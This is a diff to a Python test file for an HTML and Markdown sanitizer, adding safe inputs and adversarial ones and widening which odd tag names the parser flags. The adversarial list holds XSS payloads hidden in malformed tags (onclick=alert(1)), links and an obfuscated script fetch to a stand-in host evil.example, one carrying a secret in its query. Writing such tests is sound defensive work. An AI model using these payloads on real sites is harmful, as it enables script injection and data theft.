@@ -34,7 +34,8 @@ FINE = [
     "[x](https://www.site.example/a) www.site.example/a https://said.example/a <https://own.example/api/x>",
     "[x](a.md) [y](#part) [z](/api/content/a.md?x=1&y=2 'title') [m](mailto:hr@intra.example)",
     "x<y and z>w, def f(a: list[int]) -> dict[str, int]: README.md/CONTRIBUTING.md `a[0](1)`",
-    '<table class="wide"><td align=left>&amp; &eacute;',
+    "<table class=\"wide\"><td align=left>&amp; &eacute;<br /><td colspan = '2' nowrap>",
+    "Map<String, List<Integer>> m; if (a<b&&c>d) #include <stdio.h> Mail <hr@intra.example>",
 ]
 MADE_UP = [
     "[x](https://evil.example/?q=secret)",
@@ -83,6 +84,10 @@ MADE_UP = [
     "<b <https://evil.example/x> onclick=alert(1)> <b " + "a " * 130 + " onclick=alert(1)>",
     "//listed.example/a_https://evil.example/s https://listed.example/p.png)https://listed.example:x@evil.example/s",
     r"""<style>@import "\68ttps://evil.example/s"</style> <SCRIPT >fetch('\x68ttps://evil.example/s')</SCRIPT>""",
+    """<b title=">" onclick=alert(1)> <b a='"' b=">" onclick=alert(1)> <b a=b=" d="> x=" onclick=alert(1)>""",
+    """<b a="x"=" c="> d=" onclick=alert(1)> <b a=b\u00a0c=" d="> x=" style=x> <b a"=">" onclick=alert(1)>""",
+    """<b" onclick=alert(1)> <b; title=">" onclick=alert(1)> <b, <https://evil.example/x> onclick=alert(1)>""",
+    "<<https://evil.example/x> onclick=alert(1)> <p<style=x> <a:b/style=x<b> <<a:b//> onclick=alert(1)>",
     f"[x](https://evil.example/{'a' * 3 * LONGEST_HELD}) ![{'a' * 3 * LONGEST_HELD}](a.png)",
 ]
 _NAMES = ("listed", "asked", "said", "intra", "portal", "own", "a.below", "www.site")
@@ -112,8 +117,6 @@ class _Shown(HTMLParser):
             fetches = name in _FETCHING or (name.endswith("href") and tag != "a")
             acts = name.startswith("on") and name.isalpha() and value
             loads = acts or (fetches and "[.]" not in f"{value}")
-            if not tag.replace("-", "").isalnum():
-                continue  # no tag that anything knows
             if loads or (leads and tag == "a"):
                 self.led.append(f"<{tag} {name}={value}>")
 
